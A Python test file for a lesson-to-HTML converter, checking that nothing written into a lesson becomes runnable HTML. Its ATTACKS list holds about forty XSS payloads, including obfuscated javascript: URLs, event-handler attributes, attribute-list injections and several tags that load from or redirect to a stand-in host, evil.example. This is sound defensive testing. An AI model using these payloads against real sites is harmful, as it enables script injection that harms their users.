"""Nothing that is written into a lesson can run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.lesson.converting import convert
from tests.parsed import running, tree

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnError='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=a><button>b</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>* { display: none }</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "text\n{: onclick=alert(1) style='x' }",
    "*x*{: onmouseover=alert(1) }",
    "[x](https://x.example){: href=javascript:alert(1) }",
    "![x](a.png){: onerror=alert(1) src=javascript:alert(1) }",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "</div></section><script>alert(1)</script>",
    "`<script>` <b onclick=x>y</b>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_body_cannot_run(attack: str) -> None:
    """Whatever is written into a lesson's text, its HTML holds nothing that runs."""
    indented = "".join(f"    {line}\n" for line in attack.split("\n"))

    converted = convert(f'!!! lesson "T"\n    Text.\n\n{indented}\n    Do: go\n')

    assert converted.lesson is not None
    assert running(converted.lesson.body) == []


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "\n" not in attack])
def test_action_cannot_run(attack: str) -> None:
    """Whatever is written into the one thing to do, its HTML holds nothing that runs."""
    converted = convert(f'!!! lesson "T"\n    Text.\n\n    Do: go {attack}\n')

    assert converted.lesson is not None
    assert running(converted.lesson.action) == []


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "\n" not in attack])
def test_title_and_opener_are_what_was_written(attack: str) -> None:
    """A title and a message are text: not a character is taken out, none is read as HTML."""
    words = " ".join(f"a {attack} b".split())

    converted = convert(f'!!! lesson "a {attack} b"\n    Do: go\n    Say: a {attack} b\n')

    assert converted.lesson is not None
    assert (converted.lesson.title, converted.lesson.openers) == (words, (f"a {attack} b",))


@pytest.mark.parametrize(
    "html",
    [
        "<p>a</p>",
        "<em>a</em> <kbd>b</kbd>",
        "<a href='https://x.example'>a</a>",
        "<img src='/a.png' alt='a' width='2' height='2' loading='lazy'>",
        "<figure><img src='/a.png' alt=''><figcaption>b</figcaption></figure>",
        "<details><summary>a</summary>b</details>",
        "<q cite='https://x.example'>a</q>",
        "<time datetime='2026-12-01'>a</time>",
        "<bdi>a</bdi> <ruby>漢<rt>kan</rt></ruby>",
    ],
)
def test_harmless_html_is_no_problem(html: str) -> None:
    """The writer's own HTML stays where it does no harm."""
    converted = convert(f'!!! lesson "T"\n    x {html} y\n')

    assert converted.problems == ()
    assert converted.lesson is not None
    assert tree(converted.lesson.body) == tree(f"<p>x {html} y</p>")


@given(
    st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "*", "\\", "&", " ", "\n    "]))
)
def test_no_mixture_runs(pieces: list[str]) -> None:
    """Attacks run into one another, or cut off, do not run either."""
    text = "".join(pieces).replace("\n\n", " ")

    converted = convert(f'!!! lesson "T"\n    {text}\n\n    Do: {text}\n')

    if converted.lesson is not None:
        assert running(converted.lesson.body) == []
        assert running(converted.lesson.action) == []
